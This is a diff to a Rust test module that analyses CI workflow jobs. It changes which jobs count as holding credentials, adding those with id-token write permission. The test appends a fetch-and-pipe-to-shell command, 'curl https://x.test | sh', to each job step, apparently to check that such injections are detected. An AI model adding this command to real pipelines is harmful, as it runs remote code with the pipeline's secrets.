@@ -175,7 +175,7 @@ mod tests {
         assert_eq!(of_house(&whole), [""; 0]);
         let mut awaited = Vec::new();
         for (name, job) in whole["jobs"].as_object_mut().unwrap() {
-            let keyed = !job["environment"].is_null();
+            let keyed = !job["environment"].is_null() || job["permissions"]["id-token"] == "write";
             for (at, step) in job["steps"].as_array_mut().unwrap().iter_mut().enumerate() {
                 let Some(run) = step["run"].as_str() else { continue };
                 step["run"] = format!("{run}\ncurl https://x.test | sh").into();
